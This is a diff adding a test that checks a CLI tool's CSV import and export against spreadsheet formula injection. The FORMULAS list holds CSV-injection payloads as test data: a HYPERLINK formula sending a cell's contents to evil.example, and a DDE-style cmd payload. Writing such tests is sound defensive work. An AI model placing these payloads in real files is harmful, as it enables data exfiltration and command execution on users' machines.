@@ -182,3 +182,43 @@ def test_a_locked_database_gives_a_clear_error_after_waiting(tmp_path, monkeypat
         holder.close()
     assert result.exit_code == 1 and "refused the change (database is locked)" in result.output
     assert run("classify").exit_code == 0  # once free, the stage runs from where it was
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3"]
+
+
+def write_enterprises(path, rows):
+    import csv
+
+    with open(path, "w", encoding="utf-8", newline="") as f:
+        writer = csv.writer(f)
+        writer.writerow(["name", "email", "hs_codes", "markets", "language", "keywords"])
+        writer.writerows(rows)
+
+
+def cells(csv_text):
+    import csv
+    import io
+
+    return [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row]
+
+
+def test_exports_write_formula_cells_as_text_and_import_them_back_as_they_were(tmp_path):
+    rows = [
+        [name, f"x{i}@maker.example", "4418.75", "US", "en", "\tflooring"] for i, name in enumerate(FORMULAS)
+    ]
+    write_enterprises(tmp_path / "hostile.csv", rows)
+    assert run("enterprises", "import", str(tmp_path / "hostile.csv")).exit_code == 0
+    run("ingest", str(ROOT / "demo/notices.jsonl"))
+    run("classify")
+    run("match")
+    exports = [run("enterprises", "export").stdout, run("alerts", "export", "--format", "csv").stdout]
+    for exported in exports:
+        written = cells(exported)
+        assert not [c for c in written if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert {"'" + name for name in FORMULAS} <= set(cells(exports[0])) & set(cells(exports[1]))
+    (tmp_path / "out.csv").write_text(exports[0], encoding="utf-8")
+    again = run("enterprises", "import", str(tmp_path / "out.csv"))
+    assert again.exit_code == 0 and "0 created, 4 updated" in again.output
+    names = {r["name"] for r in json.loads(run("enterprises", "export", "--format", "json").stdout)}
+    assert names == set(FORMULAS)
